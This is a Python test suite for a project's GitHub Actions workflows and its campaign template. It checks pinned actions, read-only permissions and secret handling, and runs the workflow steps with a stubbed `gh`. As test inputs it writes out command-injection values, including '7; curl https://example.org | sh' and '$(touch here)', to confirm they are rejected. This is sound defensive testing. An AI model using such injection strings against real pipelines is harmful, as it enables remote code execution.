"""The workflows, ours and those of examples/campaign-template: what they may do, and their steps run for real.

actionlint reads them in `cargo xtask test workflows`. Here a repository is started from the template, a dataset
is added to it, and every `run:` of its workflows is executed in order, with a `gh` that writes down what it is
asked to do.
"""

import json
import os
import re
import shutil
import subprocess
import tarfile
import tomllib

import pytest
import yaml

from conftest import DEMO_CAR, ROOT

TEMPLATE = ROOT / "examples/campaign-template"
WORKFLOWS = sorted([*(ROOT / ".github/workflows").glob("*.yml"), *(TEMPLATE / ".github/workflows").glob("*.yml")])
# What may be used, each with the commit that its maintainers' release points to.
ACTIONS = {
    "actions/checkout": "3d3c42e5aac5ba805825da76410c181273ba90b1",
    "actions/cache": "55cc8345863c7cc4c66a329aec7e433d2d1c52a9",
    "actions/cache/restore": "55cc8345863c7cc4c66a329aec7e433d2d1c52a9",
    "actions/upload-artifact": "043fb46d1a93c77aae656e7c1c64a875d1fc6a0a",
    "actions/deploy-pages": "cd2ce8fcbc39b97be8ca5fce6e763baed58fa128",
}


def load(path):
    """A workflow; YAML 1.1 takes its `on` for a truth value."""
    workflow = yaml.safe_load(path.read_text())
    workflow["on"] = workflow.pop(True)
    return workflow


def steps(workflow):
    return [step for job in workflow["jobs"].values() for step in job["steps"]]


def events(workflow):
    on = workflow["on"]
    return {on} if isinstance(on, str) else set(on)


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: str(path.relative_to(ROOT)))
def test_what_a_workflow_may_do(path):
    text, workflow = path.read_text(), load(path)
    used = [step["uses"] for step in steps(workflow) if "uses" in step]
    for use in used:
        name, commit = use.split("@")
        assert ACTIONS.get(name) == commit, f"{use} is not pinned to a commit that was looked at"
    # Nothing may be written unless it says so.
    assert workflow["permissions"].get("contents") == "read"
    for step in steps(workflow):
        if step.get("uses", "").startswith("actions/checkout@"):
            assert step["with"]["persist-credentials"] is False
            assert "ref" not in step["with"], "only what GitHub checks out by itself"
        # No text of a pull request reaches a shell as code.
        assert "${{" not in step.get("run", ""), step["run"]
    if "pull_request" in events(workflow):
        assert "secrets." not in text
        assert set(workflow["permissions"].values()) == {"read"}
        assert not any(use.startswith("actions/cache@") or "cache/save" in use for use in used)
    assert "pull_request_target" not in events(workflow)
    if "workflow_run" in events(workflow):
        assert "secrets." not in text and not any("cache" in use for use in used)
    if "secrets." in text:
        assert events(workflow) == {"push", "schedule", "workflow_dispatch"}
        assert workflow["on"]["push"] == {"branches": ["main"]}


def test_the_templates_workflows_are_short():
    for path in (TEMPLATE / ".github/workflows").glob("*.yml"):
        assert len(path.read_text().splitlines()) <= 20, path


class Campaign:
    """A repository started from the template."""

    def __init__(self, folder, pinfold):
        self.folder = folder
        self.pinfold = pinfold
        shutil.copytree(TEMPLATE, folder, dirs_exist_ok=True)
        (folder / "content/about.md").write_text("---\ntitle: About\n---\nOurs.\n")
        tools = folder.parent / "tools"
        tools.mkdir()
        (tools / "pinfold").symlink_to(pinfold)
        self.said = folder.parent / "gh.log"
        self.head = "a" * 40
        gh = tools / "gh"
        gh.write_text(
            "#!/bin/sh\n"
            f'echo "$@" >> {self.said}\n'
            'case "$1 $2" in\n'
            '  "pr view") echo "$GH_HEAD" ;;\n'
            f'  "pr comment") cp comment.md {folder.parent}/posted.md ;;\n'
            "esac\n"
        )
        gh.chmod(0o755)
        self.env = {
            **{name: value for name, value in os.environ.items() if not name.startswith(("DATACITE_", "PINFOLD_", "IPFS_"))},
            "PATH": f"{tools}:{os.environ['PATH']}",
            "GITHUB_STEP_SUMMARY": str(folder.parent / "summary.md"),
            "GITHUB_PATH": str(folder.parent / "path"),
            "GH_HEAD": self.head,
            # Blocks are in the archives that `pinfold add` writes, not at a gateway.
            "IPFS_GATEWAY": str(folder / "data.car"),
            "GIT_CONFIG_GLOBAL": "/dev/null",
            "GIT_CONFIG_NOSYSTEM": "1",
        }
        self.run("git init --quiet --initial-branch main")
        self.commit("A catalogue")
        self.commit("Another day", "--allow-empty")

    def commit(self, message, *options):
        identity = "-c user.name=Ada -c user.email=ada@example.org"
        self.run(f"git add pinlist.yaml content && git {identity} commit --quiet --message '{message}' {' '.join(options)}")

    def run(self, command, code=0, **env):
        done = subprocess.run(["bash", "-eo", "pipefail", "-c", command], cwd=self.folder, env={**self.env, **env},
                              capture_output=True, text=True, timeout=300)
        assert done.returncode == code, f"{command}: {done.returncode}\n{done.stdout}\n{done.stderr}"
        return done.stdout + done.stderr

    def workflow(self, name, code=0, **env):
        """Runs each `run:` with the environment that its step gives, where that is no secret."""
        last = ""
        runs = [step for step in steps(load(self.folder / f".github/workflows/{name}.yml")) if "run" in step]
        assert runs
        for step in runs:
            values = {key: env.get(key, "" if "secrets." in value else value) for key, value in step.get("env", {}).items()}
            last = self.run(step["run"], code if step is runs[-1] else 0, **values)
        return last


@pytest.fixture
def campaign(tmp_path, pinfold):
    folder = tmp_path / "repository"
    folder.mkdir()
    return Campaign(folder, pinfold)


def dataset(folder, title="Sea ice", value=1):
    (folder / "x").mkdir(parents=True)
    (folder / ".zgroup").write_text('{"zarr_format": 2}')
    attributes = {"title": title, "summary": "Made for a test.", "creator_name": "Ada Example", "license": "CC-BY-4.0"}
    (folder / ".zattrs").write_text(json.dumps({key: text for key, text in attributes.items() if text}))
    (folder / "x/.zarray").write_text(json.dumps({
        "zarr_format": 2, "shape": [3], "chunks": [3], "dtype": "<i4", "compressor": None, "fill_value": 0,
        "filters": None, "order": "C"}))
    (folder / "x/.zattrs").write_text('{"_ARRAY_DIMENSIONS": ["x"], "units": "m"}')
    (folder / "x/0").write_bytes(bytes([value, 0, 0, 0] * 3))


def test_a_campaign_from_the_first_day_on(campaign):
    # The day before the first dataset: everything works on an empty list.
    campaign.run(f"cp {DEMO_CAR} data.car")
    campaign.workflow("check", PR_NUMBER="1")
    campaign.workflow("publish")
    assert (campaign.folder / "dist/index.html").is_file()
    (campaign.folder / "data.car").unlink()

    # A producer adds a dataset in a pull request.
    dataset(campaign.folder / "ice.zarr")
    campaign.run("pinfold add ice.zarr --car data.car --created 2026-11-20")
    campaign.commit("Sea ice")
    said = campaign.workflow("check", PR_NUMBER="7", GITHUB_ACTIONS="true")
    report = (campaign.folder / "report/report.md").read_text()
    assert (campaign.folder / "report/number").read_text() == "7\n"
    assert report.strip()
    assert "Sea ice" in (campaign.folder / "preview/index.html").read_text(), said

    # The report is posted at the pull request that was checked, and nowhere else.
    of_run = {"GH_TOKEN": "none", "RUN_ID": "12", "RUN_URL": "https://example.org/12", "HEAD_SHA": campaign.head}
    (campaign.folder / "report/report.md").write_text(report + "\n@everyone look\n")
    campaign.workflow("comment", **of_run)
    posted = (campaign.folder.parent / "posted.md").read_text()
    assert report.splitlines()[0] in posted and "@everyone" not in posted and "everyone look" in posted
    assert "pr comment 7 --body-file comment.md" in campaign.said.read_text()
    campaign.said.unlink()
    assert "nothing is posted" in campaign.workflow("comment", **{**of_run, "HEAD_SHA": "b" * 40})
    (campaign.folder / "report/number").write_text("7; curl https://example.org | sh\n")
    campaign.workflow("comment", **of_run)
    assert "pr comment 7 --body" in campaign.said.read_text()

    # After the merge.
    campaign.workflow("publish")
    assert "Sea ice" in (campaign.folder / "dist/index.html").read_text()
    address = (campaign.folder / "address").read_text().strip()
    assert re.fullmatch(r"/ipfs/bafy[a-z2-7]+", address)
    assert f'dnslink={address}"' in (campaign.folder.parent / "summary.md").read_text()
    with tarfile.open(campaign.folder / "artifact.tar") as tar:
        names = tar.getnames()
        assert "./index.html" in names and "./.pinfold" not in names
        assert all(member.isfile() or member.isdir() for member in tar), "Pages refuses links"
    # The next day: nothing changed, pages are taken over, the site has the same address.
    said = campaign.workflow("publish")
    assert (campaign.folder / "address").read_text().strip() == address
    # Blocks that cannot be reached one day cost no page.
    (campaign.folder / "data.car").rename(campaign.folder.parent / "elsewhere.car")
    campaign.run(f"cp {DEMO_CAR} data.car && rm -r .pinfold")
    campaign.run("ci/publish || true")
    assert "Sea ice" in (campaign.folder / "dist/index.html").read_text()


def test_faults_are_reported_and_nothing_is_published(campaign):
    # No dataset at all at its root, and a list that is no YAML.
    (campaign.folder / "pinlist.yaml").write_text("- cid: [\n")
    campaign.commit("A slip")
    campaign.run(f"cp {DEMO_CAR} data.car")
    campaign.workflow("check", code=2, PR_NUMBER="8")
    report = (campaign.folder / "report/report.md").read_text()
    assert "pinlist.yaml" in report, report
    campaign.run("ci/publish", code=2)
    assert not (campaign.folder / "dist").exists() and not (campaign.folder / "artifact.tar").exists()


def test_dois_are_left_alone_without_credentials(campaign):
    assert "left alone" in campaign.run("ci/dois")


def test_pinfold_is_built_where_it_is_not_there(campaign):
    """`ci/get-pinfold` with a `git` and a `cargo` that only pretend: what it asks for, and what it keeps."""
    tools = campaign.folder.parent / "tools"
    (tools / "pinfold").unlink()
    (tools / "git").write_text('#!/bin/sh\necho "git $@" >> ../calls\n[ "$1" = init ] && mkdir -p "$3"\nexit 0\n')
    (tools / "cargo").write_text('#!/bin/sh\nmkdir -p target/release && echo made > target/release/pinfold\n')
    for name in ("git", "cargo"):
        (tools / name).chmod(0o755)
    commit = "0123abcd" * 5
    (campaign.folder / "ci/pinfold-version").write_text(f"# ours\n{commit}\n")
    path = os.pathsep.join([str(tools), "/usr/bin", "/bin"])
    campaign.run("ci/get-pinfold", PATH=path)
    calls = (campaign.folder.parent / "calls").read_text()
    assert f"fetch --quiet --depth 1 https://github.com/pinfold/pinfold {commit}" in calls
    assert (campaign.folder / ".pinfold/bin/pinfold").read_text() == "made\n"
    assert (campaign.folder.parent / "path").read_text().strip() == str(campaign.folder / ".pinfold/bin")
    campaign.run("ci/get-pinfold", PATH=path)
    assert (campaign.folder.parent / "calls").read_text() == calls, "it is built once"
    campaign.run("ci/get-pinfold", PATH=path, PINFOLD_VERSION="v1.2.3")
    assert "pinfold/pinfold v1.2.3" in (campaign.folder.parent / "calls").read_text()
    for branch in ("main", "v1", "0123abc", "$(touch here)"):
        assert "nor a full commit" in campaign.run("ci/get-pinfold", code=2, PATH=path, PINFOLD_VERSION=branch)


def test_the_template_names_the_release_that_it_comes_with():
    version = tomllib.loads((ROOT / "Cargo.toml").read_text())["workspace"]["package"]["version"]
    named = (TEMPLATE / "ci/pinfold-version").read_text().splitlines()
    assert [line for line in named if not line.startswith("#")] == [f"v{version}"]


def test_our_own_catalogue_is_published_by_the_same_steps(campaign):
    """What `.github/workflows/publish.yml` does after it has built the program, on the demo catalogue."""
    for name in ("content", "pinlist.yaml"):
        source, target = ROOT / name, campaign.folder / name
        if source.is_dir():
            shutil.rmtree(target)
            shutil.copytree(source, target)
        else:
            shutil.copy(source, target)
    (campaign.folder / "examples").symlink_to(ROOT / "examples")
    (campaign.folder / "tests").symlink_to(ROOT / "tests")
    runs = [step["run"] for step in steps(load(ROOT / ".github/workflows/publish.yml")) if "run" in step]
    ours = [run for run in runs if not run.startswith(("rustup", "cargo")) and "target/release" not in run]
    assert len(ours) == len(runs) - 3
    for _ in range(2):
        said = "".join(campaign.run(run, GITHUB_REPOSITORY="pinfold/pinfold", GITHUB_REPOSITORY_OWNER="pinfold") for run in ours)
        settings = campaign.folder / "content/site.yaml"
        settings.write_text(settings.read_text().replace("url: https://pinfold.github.io/pinfold/\n", ""))
    # The second time on what was there.
    count = len(list((campaign.folder / "dist/ds").iterdir()))
    assert f"0 pages made, {count} taken over" in said, said
    assert (campaign.folder / "artifact.tar").is_file() and (campaign.folder / "site.car").is_file()
